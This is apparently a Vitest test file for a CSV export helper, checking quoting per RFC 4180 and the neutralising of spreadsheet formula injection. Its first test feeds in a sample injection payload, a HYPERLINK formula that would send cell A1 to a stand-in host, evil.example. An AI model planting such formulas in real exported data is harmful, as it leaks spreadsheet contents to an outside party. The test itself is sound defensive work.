// CSV cells parsed back as a spreadsheet or csv-parse reads them: quoting per RFC 4180, and no text
// a spreadsheet would run as a formula.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvText, toCsv } from '../../../src/lib/csv.ts';

const roundTrip = (cells: string[]) => parse(toCsv(['a', 'b', 'c', 'd', 'e', 'f'].slice(0, cells.length), [cells]), { relaxQuotes: false }) as string[][];

describe('CSV', () => {
  it('turns a formula into plain text with a leading apostrophe (=, +, -, @, tab, carriage return)', () => {
    const cells = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const [, row] = roundTrip(cells);
    expect(row).toEqual(cells.map((c) => `'${c}`));
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('doubles a leading apostrophe, so a reader can always take exactly one off', () => {
    expect(csvText("'--")).toBe("''--");
    expect(csvText("'tis")).toBe("''tis");
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(csvText('Kids in Need of Defense')).toBe('Kids in Need of Defense');
    expect(csvText('2019-06-13')).toBe('2019-06-13');
    expect(csvText('a = b')).toBe('a = b');
    expect(toCsv(['n'], [[3]])).toBe('n\r\n3\r\n');
  });

  it('quotes commas, quotes and line breaks so a cell cannot add a column or a row', () => {
    const cells = ['a, b', 'say "hi"', 'one\r\ntwo', 'x\ny', ' padded '];
    const rows = roundTrip(cells);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toEqual(cells);
  });
});
